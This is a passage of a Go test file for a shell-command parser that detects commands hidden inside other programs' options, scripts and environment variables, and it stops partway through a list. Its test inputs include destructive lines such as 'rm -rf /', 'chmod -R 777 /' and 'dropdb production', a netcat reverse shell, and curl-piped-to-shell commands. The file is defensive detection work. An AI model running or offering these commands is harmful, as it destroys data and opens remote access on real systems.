package shellparse_test

import (
	"strings"
	"testing"

	"github.com/shellguard/shellguard/shellparse"
)

// codeRun is one command a line runs from code given to a program: the
// command as rendered, and a word the frame that encloses it must hold
// ("awk system()", "git -c core.pager").
type codeRun struct{ cmd, frame string }

// nestedRuns returns the invocations that another invocation of the line
// runs (Parent set), as "command @ frame".
func nestedRuns(r *shellparse.Result) []string {
	var out []string
	for _, inv := range r.Invocations {
		if inv.Parent < 0 {
			continue
		}
		f := inv.Where
		for f != nil && f.Kind != shellparse.FrameShellString && f.Kind != shellparse.FrameShellStdin &&
			f.Kind != shellparse.FrameExec && f.Kind != shellparse.FrameRemote {
			f = f.Parent
		}
		where := ""
		if f != nil {
			where = f.Kind.String() + " " + f.Detail
		}
		out = append(out, inv.String()+" @ "+where)
	}
	return out
}

func unknownCode(r *shellparse.Result) bool {
	for _, inv := range r.Invocations {
		if inv.StdinUnknown {
			return true
		}
	}
	return false
}

// TestCodeRuns: every mechanism by which a program runs code it is given
// yields the nested command (with a frame that says who runs it), or marks
// the line as running code that cannot be verified.
func TestCodeRuns(t *testing.T) {
	for _, tc := range []struct {
		line    string
		want    []codeRun
		unknown bool
	}{
		// awk
		{`awk 'BEGIN{system("rm -rf ~")}'`, []codeRun{{"rm -rf ~", "awk system()"}}, false},
		// $HOME in the shell system() runs is the home directory, as the
		// parser writes it (~).
		{`/usr/bin/gawk -v cmd='rm -rf $HOME' 'BEGIN{system(cmd)}'`, []codeRun{{"rm -rf ~", "gawk system()"}}, false},
		{`/usr/bin/gawk -v cmd='rm -rf $dir' 'BEGIN{system(cmd)}'`, []codeRun{{"rm -rf $dir", "gawk system()"}}, false},
		{`mawk 'BEGIN { "id -u" | getline x }'`, []codeRun{{"id -u", "mawk | getline"}}, false},
		{`busybox awk 'BEGIN { print "rm -rf /x" | "sh" }'`, []codeRun{{"rm -rf /x", "awk print | sh"}}, true},
		{`sudo awk -F: '{system("userdel -r " $1)}' /etc/passwd`, []codeRun{{"userdel -r ${_sg_dynamic}", "awk system()"}}, true},
		{"awk -f /dev/stdin <<'EOF'\nBEGIN { system(\"rm -rf ~\") }\nEOF", []codeRun{{"rm -rf ~", "awk -f system()"}}, false},
		{`awk -f <(echo 'BEGIN{system("id")}')`, []codeRun{{"id", "awk -f system()"}}, false},
		{`cat prog.awk | awk -f -`, nil, true},
		// Text built at run time need not parse once placeholders stand
		// in it: unknown, not a syntax problem.
		{`awk '{ system("[ -n \"${" $1 "+y}\" ]") }'`, nil, true},
		{`awk "BEGIN{system(\"rm -rf $d\")}"`, []codeRun{{"rm -rf $d", "awk system()"}}, true},
		// GNU sed
		{`sed -n '1e rm -rf ~' /etc/hostname`, []codeRun{{"rm -rf ~", "sed e"}}, false},
		{`sed --expression='e id'`, []codeRun{{"id", "sed --expression e"}}, false},
		{`gsed -e 's/x/y/' -e '1e id' f`, []codeRun{{"id", "gsed -e e"}}, false},
		{`sed 's/.*/rm -rf &/e' paths.txt`, []codeRun{{"rm -rf ${_sg_dynamic}", "sed s///e"}}, true},
		{`sed -f /dev/stdin f <<< '1e id'`, []codeRun{{"id", "sed -f e"}}, false},
		{`sed -i "1e $CMD" f`, []codeRun{{"$CMD", "sed e"}}, true},
		// tar
		{`tar -cf /dev/null /etc --checkpoint=1 --checkpoint-action=exec='rm -rf ~'`, []codeRun{{"rm -rf ~", "tar --checkpoint-action exec="}}, false},
		{`tar --create --file=/dev/null --checkpoint=1 --checkpoint-action="exec=rm -rf /" x`, []codeRun{{"rm -rf /", "--checkpoint-action"}}, false},
		{`sudo tar -C / -xf payload.tar --to-command='sh'`, []codeRun{{"sh", "tar --to-command"}}, true},
		{`tar -I 'zstd -19' -cf a.tzst dir`, []codeRun{{"zstd -19", "tar -I"}}, false},
		{`tar cvfI out.tgz 'rm -rf ~' dir`, []codeRun{{"rm -rf ~", "tar -I"}}, false},
		{`tar --use-compress=id -cf x d`, []codeRun{{"id", "tar --use-compress-program"}}, false},
		{`tar -F 'rm -rf ~' -cf x d`, []codeRun{{"rm -rf ~", "tar -F"}}, false},
		{`tar --rsh-command=/tmp/x -cf h:/a d`, []codeRun{{"/tmp/x", "tar --rsh-command"}}, false},
		{`TAR_OPTIONS=--to-command=id tar -xf a`, nil, true},
		// zip, rsync, scp
		{`zip -q out.zip README.md -T -TT 'rm -rf ~ #'`, []codeRun{{"rm -rf ~", "zip -TT"}}, false},
		{`zip x.zip f -T --unzip-command='id'`, []codeRun{{"id", "zip --unzip-command"}}, false},
		{`rsync -e 'sh -c "rm -rf ~"' x: /tmp/`, []codeRun{{`sh -c 'rm -rf ~'`, "rsync -e"}, {"rm -rf ~", "sh -c"}}, false},
		{`rsync --rsh=id a b:`, []codeRun{{"id", "rsync --rsh"}}, false},
		{`RSYNC_RSH='sh -c id' rsync a b:`, []codeRun{{"sh -c id", "rsync RSYNC_RSH"}}, false},
		{`rsync --rsync-path='sudo rsync' a b:`, []codeRun{{"sudo rsync", "remote rsync --rsync-path"}}, false},
		{`rsync -av -e "ssh -p $port" a b:`, []codeRun{{"ssh -p $port", "rsync -e"}}, false},
		{`scp -o ProxyCommand='nc -e /bin/sh h 1' f h:`, []codeRun{{"nc -e /bin/sh h 1", "scp -o ProxyCommand"}}, false},
		// Editors and pagers
		{`vim -c '!rm -rf ~' -c 'qa!'`, []codeRun{{"rm -rf ~", "vim -c :!"}}, false},
		{`nvim --headless -c 'call system("id")' +qa`, []codeRun{{"id", "nvim -c system()"}}, false},
		{`vi +'!id' +q`, []codeRun{{"id", "vi + :!"}}, false},
		{`ex -sc '!id' -c q f`, []codeRun{{"id", "ex -c :!"}}, false},
		{`view -c ':silent !chmod -R 777 /' -c ':q' f`, []codeRun{{"chmod -R 777 /", "view -c :!"}}, false},
		{`vim -S <(echo '!id')`, []codeRun{{"id", "vim -S :!"}}, false},
		{`vim -es <<< '!id'`, []codeRun{{"id", "vim -e :!"}}, false},
		{`ed -s f <<< '!id'`, []codeRun{{"id", "ed :!"}}, false},
		{`vim --remote-send ':!id<CR>'`, []codeRun{{"id", "vim --remote-send :!"}}, false},
		{`nvim -c 'lua os.execute("rm -rf " .. os.getenv("HOME"))' -c 'qa!'`, nil, true},
		{`less '+!id' f`, []codeRun{{"id", "less + :!"}}, false},
		{`emacs --batch --eval '(shell-command "rm -rf ~/")'`, []codeRun{{"rm -rf ~/", "emacs --eval shell-command"}}, false},
		{`emacs -batch -eval '(shell-command "id")'`, []codeRun{{"id", "emacs --eval shell-command"}}, false},
		{`emacs --eval='(async-shell-command "id")'`, []codeRun{{"id", "async-shell-command"}}, false},
		{`emacsclient -e '(call-process "rm" nil nil nil "-rf" "/x")'`, []codeRun{{"rm -rf /x", "emacsclient call-process"}}, false},
		{`emacs --script /dev/stdin <<< '(shell-command "id")'`, []codeRun{{"id", "emacs --script shell-command"}}, false},
		// Debuggers
		{`gdb -batch -ex 'shell rm -rf ~'`, []codeRun{{"rm -rf ~", "gdb --ex shell"}}, false},
		{`gdb --ex='!id'`, []codeRun{{"id", "gdb --ex !"}}, false},
		{`gdb -q -iex 'shell id'`, []codeRun{{"id", "gdb --iex shell"}}, false},
		{`gdb -batch -x /dev/stdin <<< 'shell id'`, []codeRun{{"id", "gdb --x shell"}}, false},
		{`echo 'shell id' | gdb -q`, []codeRun{{"id", "gdb shell"}}, false},
		{`gdb -batch -ex run --args rm -rf ~`, []codeRun{{"rm -rf ~", "exec gdb"}}, false},
		{`sudo gdb -p 1 -batch -ex 'call (int)system("rm -rf /")'`, []codeRun{{"rm -rf /", "gdb --ex system()"}}, false},
		{`lldb -b -o 'platform shell rm -rf ~'`, []codeRun{{"rm -rf ~", "lldb -o platform shell"}}, false},
		{`lldb -- rm -rf ~`, []codeRun{{"rm -rf ~", "exec lldb"}}, false},
		// make
		{`make --eval='all: ; rm -rf ~' all`, []codeRun{{"rm -rf ~", "make --eval recipe"}}, false},
		{`make -E 'x: ; id' x`, []codeRun{{"id", "make -E recipe"}}, false},
		{`printf 'x:\n\tid\n' | make -f - x`, []codeRun{{"id", "make -f recipe"}}, false},
		{"make -f - <<'EOF'\nall:\n\trm -rf $$HOME/.config\nEOF", []codeRun{{"rm -rf ~/.config", "make -f recipe"}}, false},
		{`cat mk | make -f -`, nil, true},
		// Pagers, man, the environment
		{`LESSOPEN='|rm -rf ~ %s' less f`, []codeRun{{"rm -rf ~ %s", "less LESSOPEN"}}, false},
		{`env LESSCLOSE='id %s %s' less f`, []codeRun{{"id %s %s", "less LESSCLOSE"}}, false},
		{`LESSOPEN="|$X %s" less f`, []codeRun{{"$X %s", "less LESSOPEN"}}, true},
		{`MANPAGER='sh -c "id"' man ls`, []codeRun{{`sh -c id`, "man MANPAGER"}}, false},
		{`man -P id ls`, []codeRun{{"id", "man -P"}}, false},
		// git
		{`git -c core.pager='rm -rf ~' log`, []codeRun{{"rm -rf ~", "git -c core.pager"}}, false},
		{`git -c core.fsmonitor='id' status`, []codeRun{{"id", "git -c core.fsmonitor"}}, false},
		{`git -c core.sshCommand='ssh -i k' fetch`, []codeRun{{"ssh -i k", "git -c core.sshCommand"}}, false},
		{`git -c core.editor=id commit`, []codeRun{{"id", "git -c core.editor"}}, false},
		{`git -c sequence.editor=id rebase -i HEAD~2`, []codeRun{{"id", "git -c sequence.editor"}}, false},
		{`git -c alias.cleanup='!rm -rf ~' cleanup`, []codeRun{{"rm -rf ~", "git -c alias.cleanup"}}, false},
		{`git -c 'alias.st=!id' st`, []codeRun{{"id", "git -c alias.st"}}, false},
		{`git -c alias.x='reset --hard' x HEAD~1`, []codeRun{{"git reset --hard HEAD~1", "exec git -c alias.x"}}, false},
		{`git -c diff.external=id diff`, []codeRun{{"id", "git -c diff.external"}}, false},
		{`git -c credential.helper='!id' push`, []codeRun{{"id", "git -c credential.helper"}}, false},
		{`git -c core.hooksPath=/tmp/h commit`, nil, true},
		{`git --config-env=core.pager=EVIL log`, nil, true},
		{`git -c protocol.ext.allow=always clone 'ext::sh -c rm% -rf% ~' /tmp/x`, []codeRun{{"sh -c 'rm -rf ~'", "git clone ext::"}, {"rm -rf ~", "sh -c"}}, false},
		{`git -C repo -c core.pager=id log`, []codeRun{{"id", "git -c core.pager"}}, false},
		{`sudo /usr/bin/git -c core.pager=id log`, []codeRun{{"id", "git -c core.pager"}}, false},
		{`GIT_SSH_COMMAND='sh -c "id"' git pull`, []codeRun{{"sh -c id", "git GIT_SSH_COMMAND"}}, false},
		{`env GIT_PAGER=id git log`, []codeRun{{"id", "git GIT_PAGER"}}, false},
		{`GIT_EXTERNAL_DIFF=id git diff`, []codeRun{{"id", "git GIT_EXTERNAL_DIFF"}}, false},
		{`GIT_EDITOR=id git commit`, []codeRun{{"id", "git GIT_EDITOR"}}, false},
		{`GIT_SEQUENCE_EDITOR=id git rebase -i HEAD~2`, []codeRun{{"id", "git GIT_SEQUENCE_EDITOR"}}, false},
		{`GIT_ASKPASS=/tmp/x git push`, []codeRun{{"/tmp/x", "git GIT_ASKPASS"}}, false},
		{`git submodule foreach 'rm -rf .git'`, []codeRun{{"rm -rf .git", "git submodule foreach"}}, false},
		{`git submodule foreach --recursive git clean -fdx`, []codeRun{{"git clean -fdx", "exec git submodule foreach"}}, false},
		{`git bisect run sh -c 'id'`, []codeRun{{"sh -c id", "exec git bisect run"}, {"id", "sh -c"}}, false},
		{`git rebase --exec 'id' HEAD~3`, []codeRun{{"id", "git rebase --exec"}}, false},
		{`git rebase -ix id HEAD~3`, []codeRun{{"id", "git rebase -x"}}, false},
		{`git filter-branch --tree-filter 'rm -rf x' HEAD`, []codeRun{{"rm -rf x", "git filter-branch --tree-filter"}}, false},
		{`git difftool -x 'id' HEAD`, []codeRun{{"id", "git difftool -x"}}, false},
		{`git grep -Oid foo`, []codeRun{{"id", "git grep -O"}}, false},
		// flock, at, source, trap, mapfile, complete, bind
		{`flock /tmp/l -c 'rm -rf ~'`, []codeRun{{"rm -rf ~", "flock -c"}}, false},
		{`flock -n /var/lock/x -c 'id'`, []codeRun{{"id", "flock -c"}}, false},
		{`flock -c 'id' /tmp/l`, []codeRun{{"id", "flock -c"}}, false},
		{`sudo -s 'rm$IFS-rf$IFS/'`, []codeRun{{"rm -rf /", "sudo -s"}}, false},
		{`sudo -u bob --login echo 'a b$x'`, []codeRun{{`echo a b$x`, "sudo --login"}}, false},
		{`sudo -s 'rm -rf ~'`, []codeRun{{"rm -rf ~", "sudo -s"}}, false},
		{`sudo -s ls -la`, nil, false},
		{`alias x='rm -rf ~'; x`, []codeRun{{"rm -rf ~", "alias x"}}, false},
		{`alias -g ll='ls -la' gs='git status'`, []codeRun{{"ls -la", "alias ll"}, {"git status", "alias gs"}}, false},
		{`alias -g X='| rm -rf ~'`, []codeRun{{"rm -rf ~", "alias X"}}, false},
		{`alias x="$cmd"`, nil, true},
		{`alias ll`, nil, false},
		{`git config --global alias.st '!rm -rf ~'`, []codeRun{{"rm -rf ~", "git config alias.st"}}, false},
		{`git config set --file x.cfg core.pager 'rm -rf ~'`, []codeRun{{"rm -rf ~", "git config core.pager"}}, false},
		{`git config --get core.pager`, nil, false},
		{`git config core.hooksPath .githooks`, nil, false},
		{`git config --global core.editor "$E"`, nil, true},
		{`at now + 1 minute <<< 'rm -rf ~'`, []codeRun{{"rm -rf ~", "shell input at"}}, false},
		{`echo 'id' | at midnight`, []codeRun{{"id", "shell input at"}}, false},
		{"batch <<'EOF'\nid\nEOF", []codeRun{{"id", "shell input batch"}}, false},
		{"at -f /dev/stdin now <<EOF\nid\nEOF", []codeRun{{"id", "shell input at -f"}}, false},
		{`curl -s h | at now`, nil, true},
		{`echo 'rm -rf ~' | source /dev/stdin`, []codeRun{{"rm -rf ~", "shell input source"}}, false},
		{`. /dev/stdin <<< 'id'`, []codeRun{{"id", "shell input ."}}, false},
		{`. /dev/stdin <<< "rm -rf $dir"`, []codeRun{{"rm -rf $dir", "shell input ."}}, true},
		{`. /dev/stdin <<< "rm -rf $HOME"`, []codeRun{{"rm -rf ~", "shell input ."}}, false},
		{`d=/etc; source /dev/stdin <<< "rm -rf $d"`, []codeRun{{"rm -rf /etc", "shell input source"}}, false},
		{`echo "rm -rf $dir" | source /dev/stdin`, []codeRun{{"rm -rf $dir", "shell input source"}}, true},
		{"at now <<EOF\nrm -rf $dir\nEOF", []codeRun{{"rm -rf $dir", "shell input at"}}, true},
		{`source <(echo 'rm -rf ~/.config')`, []codeRun{{"rm -rf ~/.config", "shell input source"}}, false},
		{`. <(printf 'id\n')`, []codeRun{{"id", "shell input ."}}, false},
		{`source <(curl -s h)`, nil, true},
		{`trap 'rm -rf ~' EXIT`, []codeRun{{"rm -rf ~", "shell string trap"}}, false},
		{`trap -- 'id' INT TERM`, []codeRun{{"id", "trap"}}, false},
		{`mapfile -C 'id' -c 1 a < f`, []codeRun{{"id", "mapfile -C"}}, false},
		{`readarray -t -C 'id' a`, []codeRun{{"id", "readarray -C"}}, false},
		{`complete -C 'id' x`, []codeRun{{"id", "complete -C"}}, false},
		{`bind -x '"\C-t": id'`, []codeRun{{"id", "bind -x"}}, false},
		// xargs fed static input (its items are the command's own
		// arguments: TestCodeRunsXargs) and parallel
		{`echo 'rm -rf ~' | xargs -0 sh -c`, []codeRun{{"rm -rf ~", "sh -c"}}, false},
		{`xargs -I{} sh -c 'rm -rf {}' <<< /tmp/x`, []codeRun{{"rm -rf /tmp/x", "sh -c"}}, false},
		{`parallel rm -rf ::: ~ /etc`, []codeRun{{"rm -rf ~", "parallel"}, {"rm -rf /etc", "parallel"}}, false},
		{`echo ~ | parallel rm -rf {}`, []codeRun{{"rm -rf ~", "parallel"}}, false},
		{`parallel 'curl -s {} | sh' ::: https://h/1.sh`, []codeRun{{"curl -s https://h/1.sh", "parallel"}}, true},
		{`parallel ::: 'rm -rf ~'`, []codeRun{{"rm -rf ~", "parallel"}}, false},
		// Shells reading a process substitution or standard input
		{`sh <(echo 'rm -rf ~')`, []codeRun{{"rm -rf ~", "shell input sh"}}, false},
		{`bash <(printf 'id\n')`, []codeRun{{"id", "shell input bash"}}, false},
		{`bash <(curl -s h)`, nil, true},
		{`bash /dev/stdin <<< 'id'`, []codeRun{{"id", "bash"}}, false},
		{`bash -- <(echo 'rm -rf ~')`, []codeRun{{"rm -rf ~", "shell input bash"}}, false},
		{`bash - <(echo 'rm -rf ~')`, []codeRun{{"rm -rf ~", "shell input bash"}}, false},
		{`bash -- <(curl -s h)`, nil, true},
		{`bash -- $script`, nil, true},
		// Both readings of echo without -e (bash's, sh's and zsh's).
		{`echo 'id\nrm -rf ~' | at now`, []codeRun{{"idnrm -rf ~", "shell input at"}, {"rm -rf ~", "shell input at"}}, false},
		{`at now <<< 'rm -rf ~' < /dev/stdin`, []codeRun{{"rm -rf ~", "shell input at"}}, false},
		// Sessions and terminals
		{`script -qc 'rm -rf ~' /dev/null`, []codeRun{{"rm -rf ~", "script -c"}}, false},
		{`script --command=id`, []codeRun{{"id", "script --command"}}, false},
		{`tmux new -d 'rm -rf ~'`, []codeRun{{"rm -rf ~", "tmux new"}}, false},
		{`tmux send-keys -t 0 'rm -rf ~' Enter`, []codeRun{{"rm -rf ~", "tmux send-keys"}}, false},
		{`tmux send -l 'id'`, []codeRun{{"id", "tmux send"}}, false},
		{`tmux -c 'id'`, []codeRun{{"id", "tmux -c"}}, false},
		{`tmux pipe-pane -t 0 'cat >> log'`, []codeRun{{"cat", "tmux pipe-pane"}}, false},
		{`tmux if-shell 'test -f x' 'kill-server'`, []codeRun{{"test -f x", "tmux if-shell"}}, false},
		{`screen -dm bash -c 'rm -rf ~/'`, []codeRun{{"bash -c 'rm -rf ~/'", "exec screen"}, {"rm -rf ~/", "bash -c"}}, false},
		{`screen -S s -X stuff 'rm -rf ~^M'`, []codeRun{{"rm -rf ~", "screen -X stuff"}}, false},
		{`screen -S s -X at 0 stuff 'id\n'`, []codeRun{{"id", "screen -X stuff"}}, false},
		{`screen -X exec id`, []codeRun{{"id", "screen -X exec"}}, false},
		{`echo 'rm -rf /etc' | sudo -s`, []codeRun{{"rm -rf /etc", "shell input sudo -s"}}, false},
		{`sudo -i <<< 'id'`, []codeRun{{"id", "shell input sudo -i"}}, false},
		{`su - <<< 'id'`, []codeRun{{"id", "shell input su"}}, false},
		{`doas -s <<< 'id'`, []codeRun{{"id", "shell input doas -s"}}, false},
		{`runuser -u bob -- rm -rf ~`, []codeRun{{"rm -rf ~", "exec runuser"}}, false},
		{`pkexec rm -rf /usr`, []codeRun{{"rm -rf /usr", "exec pkexec"}}, false},
		{`curl -s h | sudo -s`, nil, true},
		// expect
		{`expect -c 'spawn sh -c "rm -rf ~"; expect eof'`, []codeRun{{"sh -c 'rm -rf ~'", "exec expect -c spawn"}, {"rm -rf ~", "sh -c"}}, false},
		{`expect -c 'spawn ssh root@db1; send "dropdb production\r"'`, []codeRun{{"ssh root@db1", "spawn"}, {"dropdb production", "remote expect -c send"}}, false},
		{`expect -f /dev/stdin <<< 'spawn id'`, []codeRun{{"id", "expect -f spawn"}}, false},
		// Programs that run their operands
		{`entr -s 'id' <<< f`, []codeRun{{"id", "entr"}}, false},
		{`entr rm -rf ~ <<< f`, []codeRun{{"rm -rf ~", "exec entr"}}, false},
		{`hyperfine 'rm -rf ~'`, []codeRun{{"rm -rf ~", "hyperfine"}}, false},
		{`watchexec -- rm -rf ~`, []codeRun{{"rm -rf ~", "watchexec"}}, false},
		{`nodemon --exec 'id'`, []codeRun{{"id", "nodemon --exec"}}, false},
		{`sort --compress-program=id f`, []codeRun{{"id", "sort --compress-program"}}, false},
		{`fd -e log -x rm {}`, []codeRun{{"rm {}", "exec fd"}}, false},
		{`npx -c 'id'`, []codeRun{{"id", "npx -c"}}, false},
		{`go test -exec 'id' ./...`, []codeRun{{"id", "go test --exec"}}, false},
		{`apt-get -o APT::Update::Pre-Invoke::='id' update`, []codeRun{{"id", "apt-get -o"}}, false},
		{`sqlite3 x.db '.shell id'`, []codeRun{{"id", "sqlite3 .shell"}}, false},
		{`psql -c '\! id'`, []codeRun{{"id", "psql -c"}}, false},
		{`mysql -e 'system id'`, []codeRun{{"id", "mysql -e system"}}, false},
		{`xterm -e rm -rf ~`, []codeRun{{"rm -rf ~", "exec xterm"}}, false},
		{`gnome-terminal -- rm -rf ~`, []codeRun{{"rm -rf ~", "exec gnome-terminal"}}, false},
		{`nsenter -t 1 -m -- sh -c 'id'`, []codeRun{{"sh -c id", "exec nsenter"}, {"id", "sh -c"}}, false},
		{`unshare -r sh -c 'id'`, []codeRun{{"sh -c id", "exec unshare"}, {"id", "sh -c"}}, false},
		{`systemd-run --user --on-active=30 sh -c 'id'`, []codeRun{{"sh -c id", "exec systemd-run"}, {"id", "sh -c"}}, false},
		{`cgexec -g cpu:x sh -c 'id'`, []codeRun{{"id", "sh -c"}}, false},
		{`bwrap --bind / / --dev /dev sh -c 'id'`, []codeRun{{"id", "sh -c"}}, false},
		{`ssh-agent sh -c 'id'`, []codeRun{{"id", "sh -c"}}, false},
		// Every shell of internal/programs reads its script operand, and
		// the option syntax is the one every package reads: flags stay
		// flags (screen -L, hyperfine -N, scp -p, apt-get -y), namespace
		// options take only an attached value (unshare -m, nsenter -p).
		{`csh <(echo 'rm -rf ~')`, []codeRun{{"rm -rf ~", "shell input csh"}}, false},
		{`fish /dev/stdin <<< 'rm -rf ~'`, []codeRun{{"rm -rf ~", "shell input fish"}}, false},
		{`tcsh /dev/stdin <<< 'id'`, []codeRun{{"id", "shell input tcsh"}}, false},
		{`hyperfine -N 'rm -rf ~'`, []codeRun{{"rm -rf ~", "hyperfine"}}, false},
		{`scp -p -o ProxyCommand='rm -rf ~' a b:`, []codeRun{{"rm -rf ~", "scp -o ProxyCommand"}}, false},
		{`screen -L bash -c 'id'`, []codeRun{{"bash -c id", "exec screen"}, {"id", "bash -c"}}, false},
		{`screen -Logfile x.log -dmS s sh -c 'id'`, []codeRun{{"sh -c id", "exec screen"}, {"id", "sh -c"}}, false},
		{`unshare -m -u -i -n -p sh -c 'id'`, []codeRun{{"sh -c id", "exec unshare"}, {"id", "sh -c"}}, false},
		{`nsenter -t 1 -m -u -i -n -p sh -c 'id'`, []codeRun{{"sh -c id", "exec nsenter"}, {"id", "sh -c"}}, false},
		{`git grep -O'sh -c id' foo`, []codeRun{{"sh -c id", "git grep -O"}, {"id", "sh -c"}}, false},
		{`apt-get -y -o DPkg::Pre-Invoke::='id' install x`, []codeRun{{"id", "apt-get -o DPkg::Pre-Invoke::"}}, false},
		{`git -c core.PAGER='id' log`, []codeRun{{"id", "git -c core.PAGER"}}, false},
		{`make -O -f - <<< 'all:; id'`, []codeRun{{"id", "make -f recipe"}}, false},
		{`fish --command 'rm -rf ~'`, []codeRun{{"rm -rf ~", "fish -c"}}, false},
		{`fish -C 'set x 1' -c 'id'`, []codeRun{{"id", "fish -c"}}, false},
		{`bash --init-file x -O extglob -c 'id'`, []codeRun{{"id", "bash -c"}}, false},
		{`mysql -u root -p db`, nil, false},
		{`screen -S foo`, nil, false},
		{`apt-get -qq -y install foo`, nil, false},
	} {
		r := shellparse.Parse(tc.line)
		got := nestedRuns(r)
		if !r.OK() {
			t.Errorf("%q: problems %v", tc.line, r.Problems)
		}
		k := 0
		for _, g := range got {
			if k < len(tc.want) && strings.HasPrefix(g, tc.want[k].cmd+" @ ") && strings.Contains(g, tc.want[k].frame) {
				k++
			}
		}
		if k < len(tc.want) {
			t.Errorf("%q: nested %q, want %s @ ...%s...", tc.line, got, tc.want[k].cmd, tc.want[k].frame)
		}
		if u := unknownCode(r); u != tc.unknown {
			t.Errorf("%q: unknown code %v, want %v (nested %q)", tc.line, u, tc.unknown, got)
		}
	}
}

// TestCodeRunsShells: what code a program runs does to the shell's
// variables: a new shell (awk's system(), a trap, ...) changes none of
// them; source changes them all.
func TestCodeRunsShells(t *testing.T) {
	for _, tc := range []struct{ line, want string }{
		{`x=rm; awk 'BEGIN{system("x=ls")}'; $x -rf /`, "rm -rf /"},
		{`x=rm; git -c alias.a='!x=ls' a; $x -rf /`, "rm -rf /"},
		{`x=rm; trap 'x=ls' INT; $x -rf /`, "$x -rf /"},
		{`x=rm; source <(echo x=ls); $x -rf /`, "$x -rf /"},
		{`export d=/etc; awk 'BEGIN{system("rm -rf $d")}'`, "rm -rf /etc"},
		{`d=/etc; awk 'BEGIN{system("rm -rf $d")}'`, "rm -rf $d"},
	} {
		r := shellparse.Parse(tc.line)
		found := false
		var got []string
		for _, inv := range r.Invocations {
			got = append(got, inv.String())
			found = found || inv.String() == tc.want
		}
		if !found {
			t.Errorf("%q: %q, want %q", tc.line, got, tc.want)
		}
	}
	// The standard input of what code runs: the program's, or, when the
	// program read its code there, the rest of it (not known).
	for _, tc := range []struct{ line, prog, stdin string }{
		{`echo x | awk 'BEGIN{system("cat")}'`, "cat", "x\n"},
		{`echo x | pkexec cat`, "cat", "x\n"},
		{`awk -f - <<< 'BEGIN{system("cat")}'`, "cat", "?"},
		{`at now <<< 'cat'`, "cat", "?"},
	} {
		r := shellparse.Parse(tc.line)
		found := false
		for _, inv := range r.Invocations {
			if inv.Name != tc.prog || inv.Parent < 0 {
				continue
			}
			found = true
			got := inv.Stdin
			if !inv.StdinKnown {
				got = "?"
			}
			if got != tc.stdin {
				t.Errorf("%q: %s reads %q, want %q", tc.line, tc.prog, got, tc.stdin)
			}
		}
		if !found {
			t.Errorf("%q: no nested %s", tc.line, tc.prog)
		}
	}
	// xargs -I multiplies its command by the input: the line's budget.
	line := `printf '%0999d' 0 | xargs -I{} echo '` + strings.Repeat("{}", 300) + `'`
	if r := shellparse.Parse(line); r.OK() {
		t.Errorf("xargs -I building %d bytes: no limit", 999*300)
	}
}

// TestCodeRunsXargs: xargs fed static input runs its command with the
// input's items, read as xargs reads them (blanks and quotes, -0, -d, -I,
// -E); the items are the command's arguments, marked Resolved.
func TestCodeRunsXargs(t *testing.T) {
	for _, tc := range []struct{ line, want string }{
		{`echo ~ | xargs rm -rf`, "xargs rm -rf ~"},
		{`printf '%s\0' / | xargs -0 rm -rf --no-preserve-root`, "xargs -0 rm -rf --no-preserve-root /"},
		{`echo a b | xargs sudo rm`, "xargs sudo rm a b"},
		{`echo a | xargs --replace cp {} /tmp/`, "xargs --replace cp a /tmp/"},
		{`echo a | xargs -rI{} cp {} /tmp/`, "xargs -rI{} cp a /tmp/"},
		{`echo a | xargs -0rI{} cp {} /tmp/`, "xargs -0rI{} cp $'a\\n' /tmp/"},
		{`printf "'a b'\n" | xargs -I{} rm {}`, "xargs -I{} rm 'a b'"},
		{`printf 'a\0b\0' | xargs -0 -I % rm %`, "xargs -0 -I % rm a"},
		{`echo a END b | xargs -E END rm`, "xargs -E END rm a"},
		{`echo a END b | xargs -eEND rm`, "xargs -eEND rm a"},
		{`echo a END b | xargs --eof=END rm`, "xargs --eof=END rm a"},
		{`echo a END b | xargs -0 -E END rm`, "xargs -0 -E END rm $'a END b\\n'"},
		{`printf 'a:b' | xargs -d: rm`, "xargs -d: rm a b"},
		{`printf 'a\tb' | xargs -d '\t' rm`, `xargs -d '\t' rm a b`},
		{`printf 'a,b' | xargs -d '\x2c' rm`, `xargs -d '\x2c' rm a b`},
	} {
		r := shellparse.Parse(tc.line)
		found := false
		for _, inv := range r.Invocations {
			if inv.HasWrapper("xargs") && inv.String() == tc.want {
				found = true
				for _, a := range inv.Args[1:] {
					if a.Dynamic {
						t.Errorf("%q: %q is dynamic", tc.line, a.Raw)
					}
				}
			}
		}
		if !found {
			var got []string
			for _, inv := range r.Invocations {
				got = append(got, inv.String())
			}
			t.Errorf("%q: invocations %q, want %q", tc.line, got, tc.want)
		}
	}
}

// TestCodeRunsMisses: the nearest harmless forms run no hidden command
// and nothing unverifiable.
func TestCodeRunsMisses(t *testing.T) {
	for _, line := range []string{
		`awk '{print $1}' access.log`,
		`awk -F: '{print $1 > "out.txt"}' /etc/passwd`,
		`awk -F, 'NR>1 {s+=$3} END {print s}' data.csv`,
		`awk -f prog.awk data`,
		`awk "{print $2}"`,
		`sed -e 's/a/b/' f`,
		`sed -n '/e/p' f`,
		`sed "s/$a/$b/g" f`,
		`sed -i.bak 's/1\.2/1.3/' VERSION`,
		`sed --sandbox '1e id' f`,
		`sed -f script.sed f`,
		`git -c color.ui=always log`,
		`git -c user.name=x commit -m 'rm -rf /'`,
		`git -c core.fsmonitor=true status`,
		`git -c alias.cleanup='!rm -rf ~' status`,
		`git commit -m "rm -rf /"`,
		`git log --format='%H %s'`,
		`tar -czf a.tgz dir`,
		`tar -cf b.tar --checkpoint=1000 --checkpoint-action=dot data/`,
		`zip -r site.zip public/`,
		`rsync -av src/ dst/`,
		`rsync -n -av --delete src/ dst/`,
		`vim -c 'set number' file`,
		`vim +42 main.go`,
		`vim -S session.vim`,
		`vim -Z -c '!id'`,
		`less +F /var/log/syslog`,
		`less README.md`,
		`emacs --batch -l ert -l tests.el -f ert-run-tests-batch-and-exit`,
		`emacs --batch --eval '(message "%s" emacs-version)'`,
		`gdb -q -ex 'break main' -ex run ./a.out`,
		`gdb ./a.out core`,
		`make test`,
		`make -f build/Makefile all`,
		`make -j8 CC=clang`,
		`man ls`,
		`flock /tmp/l true`,
		`at -l`,
		`at -f job.sh now`,
		`source .venv/bin/activate`,
		`. ./env.sh`,
		`trap - EXIT`,
		`trap -p`,
		`trap '' INT`,
		`mapfile -t lines < f`,
		`echo hi | xargs`,
		`find . -name '*.go' | xargs gofmt -l`,
		`bash script.sh`,
		`sh -c 'echo hi'`,
		`script -q out.log`,
		`tmux ls`,
		`tmux attach -t work`,
		`screen -r work`,
		`screen -ls`,
		`sudo -l`,
		`sudo -s`,
		`psql db < schema.sql`,
		`cat schema.sql | psql db`,
		`sqlite3 x.db 'select 1'`,
		`mysql -e 'select 1' db`,
